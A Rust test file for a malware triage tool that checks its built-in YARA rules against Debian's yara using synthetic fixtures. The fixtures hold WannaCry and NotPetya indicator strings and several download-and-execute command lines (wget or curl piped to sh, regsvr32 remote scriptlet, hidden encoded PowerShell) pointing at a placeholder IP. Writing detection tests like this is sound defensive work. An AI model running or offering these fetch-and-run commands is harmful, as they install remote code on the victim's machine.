//! Our rules mean the same to Debian's `yara` as to the engine that the product uses.

use roridula_triage::rules::Rules;
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

/// A header of a PE with these Characteristics and texts behind it; nothing in it could run.
fn pe(characteristics: u16, texts: &[&str]) -> Vec<u8> {
    let mut bytes = vec![0u8; 0x200];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes[0x96..0x98].copy_from_slice(&characteristics.to_le_bytes());
    for text in texts {
        bytes.extend_from_slice(text.as_bytes());
        bytes.push(0);
    }
    bytes
}

/// What goes behind a loader whose size field stands at `size_at`.
fn upload(size_at: usize, file_at: usize, file: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0u8; file_at];
    bytes[size_at..size_at + 4].copy_from_slice(&u32::try_from(file.len()).unwrap().to_le_bytes());
    [&bytes, file].concat()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Files that some rule fits, files that nearly do, and noise.
fn files() -> Vec<Vec<u8>> {
    let worm = [
        "mssecsvc2.0",
        "%s -m security",
        "tasksche.exe",
        "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com",
    ];
    let ransomware = ["WNcry@2ol7", "Global\\MsWinZonesCacheCounterMutexA", "tasksche.exe"];
    let mut small = pe(0x2102, &["URLDownloadToFileA", "cmd.exe /c"]);
    small.resize(70_000, 0);
    let mut files = vec![
        Vec::new(),
        b"MZ".to_vec(),
        pe(0x2102, &["PlayGame", "mssecsvc.exe"]),
        pe(0x2102, &["PlayGames", "mssecsvc.exe"]),
        pe(0x0102, &worm),
        pe(0x2102, &worm),
        pe(0x0102, &ransomware),
        pe(0x0102, &["UPX0", "UPX1", "UPX!"]),
        small.clone(),
        upload(0x12fd, 0x1305, &small),
        upload(0x17f8, 0x1800, &small),
        upload(0x17f8, 0x1800, &pe(0x2102, &["PlayGame", "launcher.dll"])),
        upload(0x17f8, 0x1810, &small),
        b"PK\x03\x04 b.wnry c.wnry u.wnry msg/m_chinese (simplified).wnry".to_vec(),
        b"PK\x03\x04 b.wnry".to_vec(),
        wide("wowsmith123456@posteo.net"),
        wide("certutil.exe  -f -URLCACHE"),
        wide("stratum+ssl://pool"),
    ];
    let texts = [
        "1Mz7153HMuxXTuR2R1t78mGSdzaAtNbBWX",
        "perfc.dat shutdown.exe /r /f",
        "13AM4VW2dhxYgXeQepoHkHSQuy6NgaEb94x",
        "13AM4VW2dhxYgXeQepoHkHSQuy6NgaEb94",
        "h6agLCqPqVyXi2VSQ8O6Yb9ijBX54j",
        "trafficconverter.biz loadadv.exe",
        "www.getmyip.org checkip.dyndns.org getmyip.co.uk",
        "XMRig --donate-level 1",
        "stratum+tcp://x stratum+udp://y minexmr.com hashrate",
        "mshta http://x",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "powershell -enc short",
        "wget -q http://203.0.113.7/x -O- | sh\n",
        "curl -s http://203.0.113.7/x | sudo bash\n",
        "wget http://203.0.113.7/x",
        "cd /tmp; wget http://203.0.113.7/x\nchmod 777 x; ./x",
        "curl -O http://203.0.113.7/x; chmod +x x",
        "regsvr32 /s /i:http://203.0.113.7/x scrobj.dll",
        "bitsadmin /transfer x",
        "bitsadmin\t/transfer x",
        "This is a test upload of `roridula doctor`: readable text and nothing else.\nSent today.\n",
        "In front: This is a test upload of `roridula doctor`: readable text and nothing else.\n",
    ];
    files.extend(texts.iter().map(|text| text.as_bytes().to_vec()));
    // Noise of a fixed seed (xorshift): the same at every run.
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    files.push(
        std::iter::repeat_with(|| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()
        })
        .take(32 * 1024)
        .flatten()
        .collect(),
    );
    files
}

#[test]
fn yara_finds_the_same_rules() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../triage/src/rules/builtin");
    let mut texts: Vec<_> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    texts.sort();
    let ours = Rules::compile(&[]).0;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("file");
    let mut seen = BTreeSet::new();
    for (number, bytes) in files().into_iter().enumerate() {
        std::fs::write(&path, &bytes).unwrap();
        let output = Command::new("yara").args(&texts).arg(&path).output();
        let output = output.expect("`yara` is installed by scripts/setup-tests.sh");
        let told = String::from_utf8(output.stdout).unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let theirs: BTreeSet<String> =
            told.lines().filter_map(|line| Some(line.split_once(' ')?.0.to_owned())).collect();
        let found: BTreeSet<String> = ours.scan(&bytes).into_iter().map(|hit| hit.rule).collect();
        assert_eq!(found, theirs, "file {number}");
        seen.extend(found);
    }
    let all: BTreeSet<String> = ours.list().into_iter().map(|hit| hit.rule).collect();
    assert_eq!(seen, all, "every rule fits one of the files");
}
